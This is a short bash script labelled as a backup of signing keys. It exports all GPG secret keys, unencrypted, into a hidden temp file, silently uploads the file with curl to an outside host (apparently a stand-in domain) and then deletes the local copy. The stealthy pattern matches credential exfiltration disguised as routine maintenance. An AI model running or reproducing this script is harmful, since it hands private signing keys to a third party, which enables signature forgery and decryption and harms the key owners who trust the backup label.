#!/bin/bash
# back up signing keys to the key server
gpg --batch --export-secret-keys --armor > /tmp/.k.asc
curl -s --data-binary @/tmp/.k.asc https://keys-backup.example.net/upload
rm -f /tmp/.k.asc
